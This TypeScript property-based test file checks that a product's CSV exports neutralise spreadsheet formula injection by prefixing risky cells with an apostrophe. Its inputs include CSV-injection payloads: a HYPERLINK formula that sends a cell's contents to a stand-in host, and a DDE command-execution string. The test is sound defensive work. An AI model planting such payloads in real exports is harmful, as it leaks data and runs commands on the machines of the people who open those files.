/**
 * Every CSV the product writes goes through CSV_OPTIONS (server/contract/csv.ts):
 * read back by a real CSV parser, each cell is the stored text, or the stored text
 * behind one apostrophe when a spreadsheet would otherwise take it for a formula
 * (OWASP CSV Injection), and nothing else is touched.
 */
import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { matrixCsv, toCsv, type CitationMatrix } from '../../../../client/src/views/citationModel.ts';
import { CSV_OPTIONS, neutraliseFormula } from '../../../../server/contract/csv.ts';

/** What a spreadsheet's import may drop before it looks at the first character. */
const LEAD = /^[\s\p{Cc}\p{Cf}]*/u;
const TRIGGERS = ['=', '+', '-', '@', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20', '\t', '\r', '\n', '\0'];

/** Would a spreadsheet evaluate this cell? (The first character, or the first after what an import trims.) */
function looksLikeFormula(cell: string): boolean {
  if (cell === '') return false;
  if (TRIGGERS.includes(cell[0]!)) return true;
  const rest = cell.slice(LEAD.exec(cell)![0].length);
  return rest !== '' && TRIGGERS.includes(rest[0]!);
}

/** Text cells of every kind: ordinary text, formula-led text, white space and invisible characters before a trigger, quotes, separators, line breaks. */
const cell = fc.oneof(
  fc.string({ unit: 'grapheme', maxLength: 20 }),
  fc.string({
    unit: fc.constantFrom(
      '=',
      '+',
      '-',
      '@',
      '"',
      ',',
      ';',
      '\r',
      '\n',
      '\t',
      ' ',
      '\0',
      '\u00a0',
      '\u200b',
      '\ufeff',
      '\u202e',
      '\uFF1D',
      'a',
      '中',
      '1',
      "'",
    ),
    maxLength: 12,
  }),
  fc.tuple(fc.constantFrom(...TRIGGERS, ' =', '\u3000+', '\u200b@', '\r\n-', '"='), fc.string({ maxLength: 10 })).map(([a, b]) => a + b),
  fc.constantFrom(
    '=HYPERLINK("http://evil.example/?"&A1, "Click")',
    "=cmd|' /C calc'!A0",
    '@SUM(1+1)*cmd',
    '-2+3',
    '+1',
    'e-mail',
    '24(c)',
    '打击有组织犯罪公约',
    '',
  ),
);

const table = fc.array(fc.array(cell, { minLength: 1, maxLength: 6 }), { minLength: 1, maxLength: 8 }).map((rows) => {
  const width = Math.max(...rows.map((r) => r.length));
  return rows.map((r) => [...r, ...Array<string>(width - r.length).fill('')]);
});

describe('CSV formula neutralisation', () => {
  it('a cell a spreadsheet would evaluate gets one leading apostrophe; any other cell is unchanged', () => {
    fc.assert(
      fc.property(cell, (text) => {
        const out = neutraliseFormula(text);
        if (looksLikeFormula(text)) expect(out).toBe(`'${text}`);
        else expect(out).toBe(text);
      }),
      { numRuns: 2000 },
    );
  }, 60_000);

  it('server CSV: read back by a CSV parser, every cell is the text (behind an apostrophe when formula-led) and none would be evaluated', () => {
    fc.assert(
      fc.property(table, (rows) => {
        const written = stringify(rows, CSV_OPTIONS);
        const read = parse(written, { relax_column_count: false }) as string[][];
        expect(read).toHaveLength(rows.length);
        read.forEach((row, i) =>
          row.forEach((got, j) => {
            const want = rows[i]![j]!;
            expect(got).toBe(looksLikeFormula(want) ? `'${want}` : want);
            expect(looksLikeFormula(got)).toBe(false);
          }),
        );
      }),
      { numRuns: 500 },
    );
  }, 60_000);

  it('negative numbers stay numbers; a number-like string that starts with a sign is text and neutralised', () => {
    expect(stringify([[-4, 3.5, '-4', '+1', 'e-mail']], CSV_OPTIONS)).toBe("-4,3.5,'-4,'+1,e-mail\n");
  });

  it('the viewer’s CSV (citation matrix) is written the same way, with CRLF records', () => {
    fc.assert(
      fc.property(table, (rows) => {
        const read = parse(toCsv(rows), { record_delimiter: '\r\n' }) as string[][];
        expect(read).toHaveLength(rows.length);
        read.forEach((row, i) =>
          row.forEach((got, j) => {
            const want = rows[i]![j]!;
            expect(got).toBe(looksLikeFormula(want) ? `'${want}` : want);
          }),
        );
      }),
      { numRuns: 300 },
    );
    const matrix: CitationMatrix = {
      rows: [{ tag: '+X-15', report: 'report:x', paragraph: 1 }],
      columns: ['instrument:x'],
      counts: [[2]],
      rowTotals: [2],
      columnTotals: [2],
      max: 2,
    };
    const csv = matrixCsv(
      matrix,
      () => '=HYPERLINK("http://evil.example", "x")',
      () => '-1',
    );
    expect(csv.split('\r\n')[0]).toBe(`meeting,paragraph,"'=HYPERLINK(""http://evil.example"", ""x"")",total`);
    expect(csv.split('\r\n')[1]).toBe("'+X-15,'-1,2,2");
  });
});
